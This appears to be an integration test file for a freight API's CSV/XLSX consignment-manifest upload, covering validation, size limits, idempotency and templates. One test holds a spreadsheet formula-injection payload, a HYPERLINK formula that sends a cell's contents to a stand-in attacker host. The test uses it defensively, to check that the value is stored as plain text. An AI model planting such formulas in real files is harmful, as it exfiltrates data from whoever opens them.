import { type Actor, createActor } from './support/actors.js';
import type { ApiClient } from './support/api-client.js';
import type { Problem } from './support/api-types.js';
import { aWaybillNumber } from './support/factories.js';
import { COLUMNS, consignments, csv, expectSameAsJson, renumbered, rowsOf } from './support/manifest-files.js';
import { startTestApp, type TestApp } from './support/test-app.js';

const at = (problem: Problem) => problem.errors!.map(({ row, column }) => ({ row, column }));

describe('manifests: consignments from spreadsheets', () => {
  let api: TestApp;
  let operator: Actor;
  let staff: ApiClient;

  beforeAll(async () => {
    api = await startTestApp();
    operator = await createActor(api, 'operator');
    staff = api.as(operator);
  });
  afterAll(() => api.close());

  /** A fresh exporter, its client, and a check that it has exactly `count` consignments. */
  const anExporter = async () => {
    const actor = await createActor(api, 'exporter');
    const client = api.as(actor);
    const holds = async (count: number) =>
      expect((await client.listConsignments({ limit: 200 })).items).toHaveLength(count);
    return { actor, client, holds };
  };

  it('books 300 vehicles from a CSV with Chinese headers exactly as the JSON bookings would (exporter)', async () => {
    const { client } = await anExporter();
    const json = consignments(10, 30);
    const file = renumbered(json);
    await expectSameAsJson(client, json, file, csv(rowsOf(file), { language: 1 }));
  });

  it('books a semicolon-separated CSV with Russian headers and a BOM exactly as JSON would (staff)', async () => {
    const { actor, client } = await anExporter();
    const json = consignments(12, 25, actor.organizationId);
    const file = renumbered(json);
    await expectSameAsJson(staff, json, file, csv(rowsOf(file), { language: 2, delimiter: ';', bom: true }));
    expect((await client.listConsignments({ limit: 200 })).items).toHaveLength(24);
  });

  it('refuses 2,000 rows with exactly 5 bad ones, naming each by row and column; nothing is stored', async () => {
    const { actor, holds } = await anExporter();
    const [booked] = consignments(1, 1, actor.organizationId);
    await staff.bookConsignment(booked!);
    const rows = rowsOf(consignments(200, 10, actor.organizationId));
    // Data row i is spreadsheet row i + 2 (the header is row 1).
    const vin = rows[99]![6]!;
    rows[99]![6] = `${vin.slice(0, 8)}${vin[8] === '7' ? '8' : '7'}${vin.slice(9)}`;
    rows[500]![0] = aWaybillNumber();
    rows[500]![4] = 'CNXXX';
    rows[1500]![6] = rows[10]![6]!;
    rows[1800]![6] = booked!.vehicles[0]!.vin;
    rows[1999]![10] = '12,5O0';
    const body = csv(rows);
    const expected = [
      { row: 101, column: 'vin' },
      { row: 502, column: 'originStationCode' },
      { row: 1502, column: 'vin' },
      { row: 1802, column: 'vin' },
      { row: 2001, column: 'declaredValue' },
    ];

    for (const dryRun of [false, true]) {
      const problem = await staff.bookConsignmentManifest(body, { dryRun }).expectProblem(422);
      expect(problem.type).toBe('https://landbridge.dev/problems/invalid-spreadsheet');
      expect(at(problem)).toEqual(expected);
      expect(problem.errorCount).toBe(5);
      expect(problem.errors![2]!.message).toBe('repeats the VIN of row 12');
      expect(problem.errors![3]!.message).toBe(`${booked!.vehicles[0]!.vin} is already booked`);
      expect(problem.errors![4]!.value).toBe('12,5O0');
    }
    await holds(1);
    await staff.getVehicle(rows[0]![6]!).expectProblem(404);
  });

  it('answers a dry run with what would be booked, storing nothing', async () => {
    const { holds } = await anExporter();
    const { client } = await anExporter();
    const file = consignments(3, 4);
    expect(await client.bookConsignmentManifest(csv(rowsOf(file)), { dryRun: true })).toEqual({
      consignments: 3,
      vehicles: 12,
    });
    expect((await client.listConsignments()).items).toHaveLength(0);
    await holds(0);
  });

  it('takes the file as multipart/form-data in its `file` field', async () => {
    const { client, holds } = await anExporter();
    const form = new FormData();
    form.append('file', new Blob([csv(rowsOf(consignments(2, 3)))], { type: 'text/csv' }), 'manifest.csv');
    expect(await client.bookConsignmentManifest(form)).toMatchObject({ consignments: 2, vehicles: 6 });
    await holds(2);
  });

  it('refuses an exporter booking for another organization, on that row, storing nothing', async () => {
    const { client, holds } = await anExporter();
    const other = await anExporter();
    const rows = rowsOf(consignments(2, 2));
    rows[3]![1] = other.actor.organizationId;
    // The rows of one waybill must agree: row 5 differs from row 4 (its exporter), and is another organization's.
    const problem = await client.bookConsignmentManifest(csv(rows)).expectProblem(422);
    expect(at(problem)).toEqual([{ row: 5, column: 'exporterId' }]);
    expect(problem.errors![0]!.message).toBe('must be empty or your own organization');
    await holds(0);
    await other.holds(0);
  });

  it('stores a formula cell as plain text', async () => {
    const { client } = await anExporter();
    const [input] = consignments(1, 1);
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    input!.consignee.name = formula;
    input!.vehicles[0]!.model = '+7 Sport';
    const { ids } = await client.bookConsignmentManifest(csv(rowsOf([input!])));
    const stored = await client.getConsignment(ids![0]!);
    expect(stored.consignee.name).toBe(formula);
    expect(stored.vehicles[0]!.model).toBe('+7 Sport');
  });

  it('refuses more than 50,000 data rows with 413, storing nothing', async () => {
    const { client, holds } = await anExporter();
    const [input] = consignments(1, 1);
    const line = rowsOf([input!])[0]!.join(',');
    const body = `${COLUMNS.map((c) => c[0]).join(',')}\n${`${line}\n`.repeat(50_001)}`;
    const problem = await client.bookConsignmentManifest(body).expectProblem(413);
    expect(problem.detail).toContain('50000');
    await holds(0);
  });

  it('refuses a body over 20 MiB (413) and a cell over 64 KiB (422 on its row and column)', async () => {
    const { client, holds } = await anExporter();
    const rows = rowsOf(consignments(1, 2));
    const huge = `${csv(rows)}${'x'.repeat(21 * 1024 * 1024)}`;
    await client.bookConsignmentManifest(huge).expectProblem(413);
    rows[1]![8] = 'M'.repeat(64 * 1024 + 1);
    const problem = await client.bookConsignmentManifest(csv(rows)).expectProblem(422);
    expect(at(problem)).toEqual([{ row: 3, column: 'model' }]);
    expect(problem.errors![0]!.value).toHaveLength(201);
    await holds(0);
  });

  it('refuses spreadsheets on other routes and files that are neither CSV nor XLSX (415)', async () => {
    const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
    for (const type of ['text/csv', xlsxType]) {
      await staff
        .request('POST', '/api/v1/consignments', { body: 'a,b', headers: { 'content-type': type } })
        .expectProblem(415);
    }
    const form = new FormData();
    form.append('file', new Blob(['a,b'], { type: 'text/csv' }), 'm.csv');
    await staff.request('POST', '/api/v1/consignments', { body: form }).expectProblem(415);
    const text = new FormData();
    text.append('file', new Blob(['a,b'], { type: 'text/plain' }), 'manifest.txt');
    const refused = await staff.bookConsignmentManifest(text).expectProblem(415);
    expect(refused.detail).toContain('CSV (.csv, text/csv) or XLSX (.xlsx)');
  });

  it('replays a manifest sent again with its Idempotency-Key, booking once', async () => {
    const { client, holds } = await anExporter();
    const body = csv(rowsOf(consignments(2, 2)));
    const first = await client.bookConsignmentManifest(body, {}, { idempotencyKey: 'manifest-1' });
    const call = client.bookConsignmentManifest(body, {}, { idempotencyKey: 'manifest-1' });
    expect(await call).toEqual(first);
    expect((await call.response).headers.get('idempotent-replayed')).toBe('true');
    await holds(2);
    const other = csv(rowsOf(consignments(1, 1)));
    await client.bookConsignmentManifest(other, {}, { idempotencyKey: 'manifest-1' }).expectProblem(422);
  });

  it('offers the templates as CSV with a BOM by default, and 406 for a format other than CSV or XLSX', async () => {
    const call = staff.manifestTemplate('consignments');
    const text = await call;
    const response = await call.response;
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="consignments-template.csv"');
    // Excel reads UTF-8 only after a BOM (fetch's text() drops it, so look at the bytes).
    expect([...new Uint8Array(await response.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, example] = text.trim().split('\r\n');
    expect(header).toBe(COLUMNS.map((c) => c[0]).join(','));
    expect(example).toContain('LGXCH4CD3S2107503');
    const loading = await staff.manifestTemplate('loading-list');
    expect(loading.split('\r\n')[0]).toBe('vin,unitKind,unitNumber,wagonNumber');
    await staff.manifestTemplate('consignments', { headers: { accept: 'application/pdf' } }).expectProblem(406);
  });
});
